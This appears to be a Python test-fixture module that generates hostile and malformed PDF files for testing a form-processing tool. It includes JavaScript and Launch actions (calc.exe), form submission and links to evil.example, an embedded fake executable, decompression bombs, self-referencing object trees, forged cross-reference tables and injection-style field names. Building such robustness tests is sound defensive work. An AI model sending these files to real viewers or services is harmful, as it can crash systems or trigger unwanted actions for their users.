"""Blanks that mean harm, made here: dict[what it tries, its bytes]. Most are written byte by byte, as attackers do."""

from __future__ import annotations

import functools
import io
import zlib
from collections.abc import Callable, Mapping

import pikepdf
from builders import Blank, raw_pdf
from pikepdf import Array, Dictionary, Name, String

FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
WORDS = b"BT /F1 10 Tf 50 700 Td (Patient name:) Tj ET\n"
CATALOG = b"<</Type/Catalog/Pages 2 0 R%s>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>%s>>%s>>"
#: How much a bomb unpacks to.
BOMB = 300_000_000

_MADE: dict[str, Callable[[], bytes]] = {}


def case(make: Callable[[], bytes]) -> Callable[[], bytes]:
    _MADE[make.__name__.removeprefix("pdf_").replace("_", " ")] = make
    return make


def cases() -> Mapping[str, Callable[[], bytes]]:
    return _MADE


def stream(entries: bytes, data: bytes) -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(data), data)


def sheet(
    more: dict[int, bytes] | None = None, *, catalog: bytes = b"", page: bytes = b"", resources: bytes = b"",
    content: bytes = b"", trailer: bytes = b"",
) -> bytes:  # fmt: skip
    """A page that prints "Patient name:", with whatever else a case needs; its own objects count from 6."""
    objects = {
        1: CATALOG % catalog,
        2: PAGES,
        3: PAGE % (resources, page),
        4: stream(b"", WORDS + content),
        5: FONT,
        **(more or {}),
    }
    return raw_pdf(objects, trailer=trailer)


@functools.cache
def zeros(size: int, byte: bytes = b"\0") -> bytes:
    """Flate data that unpacks to ``size`` equal bytes, made without holding them."""
    packer = zlib.compressobj(9)
    block = byte * 1_000_000
    return b"".join([packer.compress(block) for _ in range(size // len(block))]) + packer.flush()


# what viewers would run, fetch, send or unpack

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def active_blank() -> bytes:
    """A fillable form with every kind of active content at once, where each may stand."""
    blank = Blank(pages=0)
    pdf = blank.pdf
    blank.page(words=[(50, 700, "Patient name:"), (50, 500, "Laboratory results")])
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    launch = Dictionary(S=Name.Launch, F=String("calc.exe"), Next=Dictionary(S=Name.JavaScript, JS=String("next()")))
    submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/")))
    name = blank.text("Name", (130, 696, 300, 712), A=script, AA=Dictionary(K=script, F=script, V=script, C=script))
    blank.check("Lab", (30, 500, 40, 510), A=submit, AA=Dictionary(U=launch))
    blank.form["/CO"] = Array([name])
    file = Dictionary(Type=Name.Filespec, F=String("payload.exe"), EF=Dictionary(F=pdf.make_stream(b"MZ payload")))
    file = pdf.make_indirect(file)
    page = pdf.pages[0].obj
    page["/AA"] = Dictionary(O=script, C=launch)
    page["/AF"] = Array([file])
    page["/Annots"].extend(
        [
            pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 9, 9]), **more))
            for kind, more in (
                ("Link", {"A": Dictionary(S=Name.URI, URI=String("https://evil.example/"))}),
                ("Link", {"A": Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))}),
                ("Link", {"A": Dictionary(S=Name.ImportData, F=String("data.fdf"))}),
                ("Link", {"A": launch, "PA": script}),
                ("FileAttachment", {"FS": file, "F": 4}),
                ("RichMedia", {"RichMediaContent": Dictionary(Assets=Dictionary(Names=Array(["a", file])))}),
                ("Screen", {"A": Dictionary(S=Name.Rendition, JS=String("run()"), OP=0)}),
                ("3D", {"3DD": pdf.make_stream(b"U3D", OnInstantiate=pdf.make_stream(b"script"))}),
            )
        ]
    )
    root = pdf.Root
    root.OpenAction = script
    root.AA = Dictionary(WC=script, WS=script, DS=script)
    root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array(["boot", script])), EmbeddedFiles=Dictionary(Names=Array(["payload", file]))
    )
    root.AF = Array([file])
    root.URI = Dictionary(Base=String("https://evil.example/"))
    outline = pdf.make_indirect(Dictionary(Title=String("click"), A=launch))
    root.Outlines = pdf.make_indirect(Dictionary(First=outline, Last=outline, Count=1))
    return blank.save()


case(active_blank)


@case
def pdf_javascript_in_a_text_stream() -> bytes:
    return sheet(
        {6: b"<</S/JavaScript/JS 7 0 R>>", 7: stream(b"", b"app.alert(1)")},
        catalog=b"/OpenAction 6 0 R/AA<</WC 6 0 R>>",
    )


# what never ends


@case
def pdf_page_tree_of_itself() -> bytes:
    return raw_pdf({1: CATALOG % b"", 2: b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>", 3: PAGE % (b"", b""),
                    4: stream(b"", WORDS), 5: FONT})  # fmt: skip


@case
def pdf_page_that_is_its_own_parent() -> bytes:
    return sheet({3: b"<</Type/Page/Parent 3 0 R/Contents 4 0 R>>"})


@case
def pdf_page_tree_ten_thousand_deep() -> bytes:
    objects = {1: b"<</Type/Catalog/Pages 10 0 R>>", 3: PAGE % (b"", b""), 4: stream(b"", WORDS), 5: FONT}
    for number in range(10, 10_010):
        objects[number] = b"<</Type/Pages/Count 1/Kids[%d 0 R]%s>>" % (
            number + 1, b"/Parent %d 0 R" % (number - 1) if number > 10 else b"",
        )  # fmt: skip
    objects[10_010] = objects.pop(3).replace(b"/Parent 2 0 R", b"/Parent 10009 0 R")
    return raw_pdf(objects)


@case
def pdf_field_tree_of_itself() -> bytes:
    return sheet(
        {6: b"<</T(a)/Kids[7 0 R]/Parent 7 0 R>>", 7: b"<</T(b)/Kids[6 0 R 7 0 R 8 0 R]/Parent 6 0 R>>",
         8: b"<</T(c)/FT/Tx/Subtype/Widget/Rect[130 690 300 710]/Parent 8 0 R>>"},
        catalog=b"/AcroForm<</Fields[6 0 R 7 0 R 8 0 R]/DA(/Helv 0 Tf 0 g)>>", page=b"/Annots[8 0 R]",
    )  # fmt: skip


@case
def pdf_field_tree_that_doubles_at_each_level() -> bytes:
    objects = {number: b"<</T(x)/Kids[%d 0 R %d 0 R]>>" % (number + 1, number + 1) for number in range(6, 66)}
    objects[66] = b"<</T(x)/FT/Tx/Subtype/Widget/Rect[130 690 300 710]>>"
    return sheet(objects, catalog=b"/AcroForm<</Fields[6 0 R]/DA(/Helv 0 Tf 0 g)>>", page=b"/Annots[66 0 R]")


@case
def pdf_outline_of_itself() -> bytes:
    return sheet(
        {6: b"<</First 7 0 R/Last 7 0 R/Count 1>>", 7: b"<</Title(x)/Parent 6 0 R/First 7 0 R/Last 7 0 R/Next 7 0 R>>"},
        catalog=b"/Outlines 6 0 R",
    )


@case
def pdf_picture_that_draws_itself() -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 100 100]/Resources<</XObject<</X 6 0 R/Y 7 0 R>>>>"
    return sheet(
        {6: stream(form, b"/X Do /Y Do"), 7: stream(form, b"/Y Do /X Do")}, resources=b"/XObject<</X 6 0 R>>",
        content=b"/X Do",
    )  # fmt: skip


@case
def pdf_pictures_that_double_at_each_level() -> bytes:
    """Thirty levels that draw the next one twice: a thousand million pictures."""
    objects = {}
    for number in range(6, 36):
        head = b"/Type/XObject/Subtype/Form/BBox[0 0 100 100]/Resources<</XObject<</X %d 0 R>>>>" % (number + 1)
        objects[number] = stream(head, b"/X Do /X Do")
    objects[36] = stream(b"/Type/XObject/Subtype/Form/BBox[0 0 100 100]", b"0 0 1 1 re f")
    return sheet(objects, resources=b"/XObject<</X 6 0 R>>", content=b"/X Do")


@case
def pdf_font_that_draws_itself() -> bytes:
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[.1 0 0 .1 0 0]/FirstChar 65/LastChar 65/Widths[9]"
        b"/Encoding<</Differences[65/A]>>/CharProcs<</A 7 0 R>>/Resources<</Font<</F2 6 0 R>>>>>>"
    )
    return sheet(
        {6: font, 7: stream(b"", b"9 0 d0 BT /F2 9 Tf (AA) Tj ET")},
        resources=b"/Font<</F1 5 0 R/F2 6 0 R>>", content=b"BT /F2 9 Tf 50 600 Td (A) Tj ET",
    )  # fmt: skip


@case
def pdf_pattern_that_paints_itself() -> bytes:
    pattern = (
        b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep .001/YStep .001/Resources<</Pattern<</P 6 0 R>>>>"
    )
    return sheet(
        {6: stream(pattern, b"/Pattern cs /P scn 0 0 9 9 re f")}, resources=b"/Pattern<</P 6 0 R>>",
        content=b"/Pattern cs /P scn 0 0 612 792 re f",
    )  # fmt: skip


@case
def pdf_length_that_is_its_own_stream() -> bytes:
    return sheet({4: b"<</Length 4 0 R>>\nstream\n%s\nendstream" % WORDS})


@case
def pdf_object_that_is_itself() -> bytes:
    return sheet(
        {6: b"6 0 R", 7: b"8 0 R", 8: b"7 0 R"}, page=b"/Annots 6 0 R/Rotate 7 0 R", catalog=b"/AcroForm 7 0 R"
    )


@case
def pdf_prev_that_points_at_itself() -> bytes:
    data = sheet()
    at = data.rindex(b"\nxref\n") + 1
    return sheet(trailer=b"/Prev %d" % (at + 0))


@case
def pdf_two_sections_that_point_at_each_other() -> bytes:
    data = sheet(trailer=b"/Prev 0000000000")
    first = data.rindex(b"\nxref\n") + 1
    second = len(data)
    data = data.replace(b"/Prev 0000000000", b"/Prev %010d" % second)
    tail = b"xref\n0 0\ntrailer\n<</Size 6/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (first, second)
    return data + tail


@case
def pdf_object_stream_of_itself() -> bytes:
    """The cross-reference stream says that the object stream stands in itself."""
    body = raw_pdf({1: CATALOG % b"", 2: PAGES, 3: PAGE % (b"", b""), 4: stream(b"", WORDS), 5: FONT})
    body = body[: body.rindex(b"xref\n0 6")]
    rows = b"\0\0\0\0\0\0\xff"
    for number in range(1, 6):
        rows += b"\x01" + body.index(b"%d 0 obj" % number).to_bytes(4, "big") + b"\0\0"
    rows += b"\x02" + (6).to_bytes(4, "big") + b"\0\0"  # object 6 is in stream 6
    at = len(body)
    rows += b"\x01" + at.to_bytes(4, "big") + b"\0\0"
    section = stream(b"/Type/XRef/W[1 4 2]/Size 8/Root 1 0 R/Info 6 0 R", rows)
    return body + b"7 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (section, at)


@case
def pdf_array_a_hundred_thousand_deep() -> bytes:
    return sheet({6: b"[" * 100_000 + b"]" * 100_000}, page=b"/Annots 6 0 R", catalog=b"/AcroForm<</Fields 6 0 R>>")


@case
def pdf_dictionary_four_hundred_deep() -> bytes:
    """As deep as qpdf lets through."""
    return sheet({6: b"<</A" * 400 + b" 1" + b">>" * 400}, page=b"/PieceInfo 6 0 R", resources=b"/Properties 6 0 R")


@case
def pdf_dictionary_in_the_page_four_hundred_deep() -> bytes:
    return sheet(page=b"/PieceInfo" + b"<</A" * 400 + b" 1" + b">>" * 400)


@case
def pdf_content_of_nested_arrays() -> bytes:
    return sheet(content=b"[" * 200_000)


@case
def pdf_content_of_saves() -> bytes:
    return sheet(content=b"q " * 2_000_000)


# bombs


@case
def pdf_content_bomb() -> bytes:
    return sheet({4: stream(b"/Filter/FlateDecode", zeros(BOMB, b" "))})


@case
def pdf_content_bomb_in_a_bomb() -> bytes:
    """A million to one: a bomb packed once more."""
    return sheet({4: stream(b"/Filter[/FlateDecode/FlateDecode]", zlib.compress(zeros(3 * BOMB, b" "), 9))})


@case
def pdf_content_bomb_of_operators() -> bytes:
    packer = zlib.compressobj(9)
    block = b"0 0 1 1 re f\n" * 50_000
    packed = b"".join([packer.compress(block) for _ in range(200)]) + packer.flush()
    return sheet({4: stream(b"/Filter/FlateDecode", packed)})


@case
def pdf_content_bomb_by_ascii_and_run_length() -> bytes:
    return sheet({4: stream(b"/Filter[/FlateDecode/RunLengthDecode]", zlib.compress(b"\x81 " * 2_400_000, 9))})


@case
def pdf_appearance_bomb() -> bytes:
    field = b"<</T(Name)/FT/Tx/Subtype/Widget/F 4/Rect[130 690 300 710]/AP<</N 7 0 R>>>>"
    look = stream(b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Filter/FlateDecode", zeros(BOMB, b" "))
    return sheet({6: field, 7: look}, catalog=b"/AcroForm<</Fields[6 0 R]/DA(/Helv 0 Tf 0 g)>>", page=b"/Annots[6 0 R]")


@case
def pdf_object_stream_bomb() -> bytes:
    body = raw_pdf({1: CATALOG % b"/Extra 6 0 R", 2: PAGES, 3: PAGE % (b"", b""), 4: stream(b"", WORDS), 5: FONT})
    body = body[: body.rindex(b"xref\n0 6")]
    rows = b"\0\0\0\0\0\0\xff"
    for number in range(1, 6):
        rows += b"\x01" + body.index(b"%d 0 obj" % number).to_bytes(4, "big") + b"\0\0"
    rows += b"\x02" + (7).to_bytes(4, "big") + b"\0\0"
    rows += b"\x01" + len(body).to_bytes(4, "big") + b"\0\0"
    body += b"7 0 obj\n%s\nendobj\n" % stream(b"/Type/ObjStm/N 1/First 10/Filter/FlateDecode", zeros(BOMB, b" "))
    at = len(body)
    section = stream(b"/Type/XRef/W[1 4 2]/Size 8/Root 1 0 R", rows)
    return body + b"8 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (section, at)


@case
def pdf_cross_reference_bomb() -> bytes:
    body = raw_pdf({1: CATALOG % b"", 2: PAGES, 3: PAGE % (b"", b""), 4: stream(b"", WORDS), 5: FONT})
    body = body[: body.rindex(b"xref\n0 6")]
    head = b"/Type/XRef/W[1 4 2]/Size 40000000/Root 1 0 R/Filter/FlateDecode"
    section = stream(head, zeros(BOMB))
    return body + b"8 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (section, len(body))


def picture(entries: bytes, data: bytes) -> bytes:
    return sheet(
        {6: stream(b"/Type/XObject/Subtype/Image" + entries, data)}, resources=b"/XObject<</X 6 0 R>>",
        content=b"q 500 0 0 500 50 50 cm /X Do Q",
    )  # fmt: skip


@case
def pdf_picture_of_3600_megapixels() -> bytes:
    head = b"/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode"
    return picture(head, zeros(BOMB))


@case
def pdf_picture_of_3600_megapixels_in_black_and_white() -> bytes:
    head = b"/Width 60000/Height 60000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/FlateDecode"
    return picture(head, zeros(60_000 * 7_500))


@case
def pdf_jbig2_picture_of_3600_megapixels() -> bytes:
    page = (60_000).to_bytes(4, "big") * 2 + b"\0" * 8 + b"\0" + b"\0\0"
    segment = b"\0\0\0\0\x30\0\x01" + len(page).to_bytes(4, "big") + page
    head = b"/Width 60000/Height 60000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode"
    return picture(head, segment)


@case
def pdf_fax_picture_of_3600_megapixels() -> bytes:
    head = (
        b"/Width 60000/Height 60000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/CCITTFaxDecode"
        b"/DecodeParms<</K -1/Columns 60000/Rows 60000>>"
    )
    return picture(head, b"\xff" * 8000)


@case
def pdf_jpeg_that_says_4225_megapixels() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (16, 16), "white").save(out, "JPEG")
    data = bytearray(out.getvalue())
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = b"\xfd\xe8\xfd\xe8"
    head = b"/Width 65000/Height 65000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/DCTDecode"
    return picture(head, bytes(data))


@case
def pdf_lzw_that_never_clears() -> bytes:
    head = b"/Filter/LZWDecode/DecodeParms<</EarlyChange 0>>"
    return sheet({4: stream(head, b"\x80" + b"\x0b\x60\x50\x22\x0c\x0c\x85\x01" * 100_000)})


@case
def pdf_predictor_of_two_thousand_million_columns() -> bytes:
    head = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>"
    return sheet({4: stream(head, zlib.compress(WORDS))})


@case
def pdf_tounicode_bomb() -> bytes:
    cmap = b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <ff> endcodespacerange\n"
    cmap += b"100 beginbfrange\n" + b"<0000> <ffff> <0041>\n" * 200_000 + b"endbfrange endcmap"
    return sheet(
        {6: FONT.replace(b">>", b"/ToUnicode 7 0 R>>"), 7: stream(b"/Filter/FlateDecode", zlib.compress(cmap))},
        resources=b"/Font<</F1 6 0 R>>",
    )


@case
def pdf_widths_without_end() -> bytes:
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar 0/LastChar 2147483647/Widths[5]/FontDescriptor 7 0 R>>"
    return sheet(
        {6: b"<</T(Name)/FT/Tx/Subtype/Widget/F 4/DA(/F2 0 Tf 0 g)/Rect[130 690 300 710]>>",
         7: b"<</Type/FontDescriptor/FontName/Arial/Flags 32/FontBBox[0 0 9 9]/MissingWidth 1e38>>", 8: font},
        catalog=b"/AcroForm<</Fields[6 0 R]/DR<</Font<</F2 8 0 R>>>>/DA(/F2 0 Tf 0 g)>>", page=b"/Annots[6 0 R]",
    )  # fmt: skip


# too many, too large


@case
def pdf_a_hundred_thousand_fields() -> bytes:
    numbers = range(7, 100_007)
    objects = {6: b"[" + b" ".join(b"%d 0 R" % number for number in numbers) + b"]"}
    for number in numbers:
        x, y = number % 300 * 2, number // 300 * 2
        objects[number] = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(f%d)/F 4/Rect[%d %d %d %d]>>" % (
            number, x, y, x + 2, y + 2,
        )  # fmt: skip
    return sheet(objects, catalog=b"/AcroForm<</Fields 6 0 R/DA(/Helv 0 Tf 0 g)>>", page=b"/Annots 6 0 R")


@case
def pdf_a_hundred_thousand_annotations() -> bytes:
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 1 1]>>"
    return sheet(page=b"/Annots[" + link * 100_000 + b"]")


@case
def pdf_a_hundred_thousand_pages() -> bytes:
    numbers = range(6, 100_006)
    objects = dict.fromkeys(numbers, b"<</Type/Page/Parent 2 0 R>>")
    kids = b" ".join(b"%d 0 R" % number for number in numbers)
    return sheet({2: b"<</Type/Pages/MediaBox[0 0 612 792]/Kids[%s]/Count 100000>>" % kids, **objects})


@case
def pdf_one_page_a_hundred_thousand_times() -> bytes:
    return sheet({2: b"<</Type/Pages/Kids[%s]/Count 100000>>" % (b"3 0 R " * 100_000)})


@case
def pdf_a_count_of_two_thousand_million_pages() -> bytes:
    return sheet({2: b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>"})


@case
def pdf_five_hundred_pages_of_one_picture() -> bytes:
    """As many pages as are let through, each with a picture that unpacks to 75 MB."""
    head = (
        b"/Type/XObject/Subtype/Image/Width 5000/Height 5000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode"
    )
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources 7 0 R>>"
    numbers = range(10, 510)
    return sheet(
        {2: b"<</Type/Pages/Kids[%s]/Count 500>>" % b" ".join(b"%d 0 R" % number for number in numbers),
         4: stream(b"", WORDS + b"q 500 0 0 500 50 50 cm /X Do Q"), 6: stream(head, zeros(75_000_000, b"\xff")),
         7: b"<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>", **dict.fromkeys(numbers, page)}
    )  # fmt: skip


@case
def pdf_page_of_a_thousand_million_points() -> bytes:
    return sheet({3: (PAGE % (b"", b"")).replace(b"[0 0 612 792]", b"[0 0 1000000000 1000000000]")})


@case
def pdf_page_of_numbers_beyond_doubles() -> bytes:
    box = b"[-%s 0 %s 792]" % (b"9" * 400, b"9" * 400)
    return sheet({3: (PAGE % (b"", b"")).replace(b"[0 0 612 792]", box)})


@case
def pdf_page_of_no_size() -> bytes:
    return sheet({3: (PAGE % (b"", b"")).replace(b"[0 0 612 792]", b"[0 0 0 0]")})


@case
def pdf_page_of_a_million_user_units() -> bytes:
    return sheet(page=b"/UserUnit 1000000")


@case
def pdf_page_whose_box_is_words() -> bytes:
    return sheet({3: (PAGE % (b"", b"")).replace(b"[0 0 612 792]", b"[(a) /b null <<>>]")}, page=b"/Rotate(x)")


# lies of the cross-references


@case
def pdf_size_of_two_thousand_million() -> bytes:
    return sheet().replace(b"/Size 6", b"/Size 2147483647")


@case
def pdf_table_of_a_hundred_million_rows() -> bytes:
    return sheet().replace(b"xref\n0 6\n", b"xref\n0 99999999\n")


@case
def pdf_table_that_points_into_nothing() -> bytes:
    data = sheet()
    table = data.rindex(b"xref\n0 6")
    return data[:table] + data[table:].replace(b"00000 n", b"00007 n").replace(b"00000000", b"99999999")


@case
def pdf_table_that_points_at_other_objects() -> bytes:
    data = sheet()
    first, second = (b"%010d" % data.index(b"\n%d 0 obj" % number) for number in (2, 3))
    return data.replace(first[:-1], b"?" * 9).replace(second[:-1], first[:-1]).replace(b"?" * 9, second[:-1])


@case
def pdf_section_with_widths_of_a_thousand_million() -> bytes:
    body = sheet()
    body = body[: body.rindex(b"xref\n0 6")]
    section = stream(b"/Type/XRef/W[1000000000 1000000000 1000000000]/Index[0 2147483647]/Size 6/Root 1 0 R", b"x")
    return body + b"8 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (section, len(body))


@case
def pdf_startxref_beyond_the_file() -> bytes:
    data = sheet()
    return data[: data.rindex(b"startxref")] + b"startxref\n99999999999999999999\n%%EOF\n"


@case
def pdf_root_that_is_a_page() -> bytes:
    return sheet().replace(b"/Root 1 0 R", b"/Root 3 0 R")


@case
def pdf_locked_with_a_password() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(sheet())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="owner"))
    return out.getvalue()


@case
def pdf_cipher_that_is_none() -> bytes:
    return sheet(trailer=b"/Encrypt<</Filter/Standard/V 99/R 99/O(x)/U(x)/P -1/Length 99999999>>/ID[(a)(b)]")


@case
def pdf_names_that_break_out() -> bytes:
    """A field's name, states and default appearance with operators, brackets and ends of objects."""
    return sheet(
        {6: b"<</T(a\\) endobj 1 0 obj <<)/FT/Tx/Subtype/Widget/F 4/Rect[130 690 300 710]"
            b"/DA(/Helv 0 Tf 0 g Q q 1 0 0 RG ET BT /X Do \\) Tj)>>",
         7: b"<</T(b)/FT/Btn/Subtype/Widget/F 4/Rect[30 600 40 610]/AP<</N<</A#20#3E#3E#20endobj 8 0 R/Off 8 0 R>>>>>>",
         8: stream(b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]", b"0 0 9 9 re f")},
        catalog=b"/AcroForm<</Fields[6 0 R 7 0 R]/DA(/Helv 0 Tf 0 g)>>", page=b"/Annots[6 0 R 7 0 R]",
    )  # fmt: skip
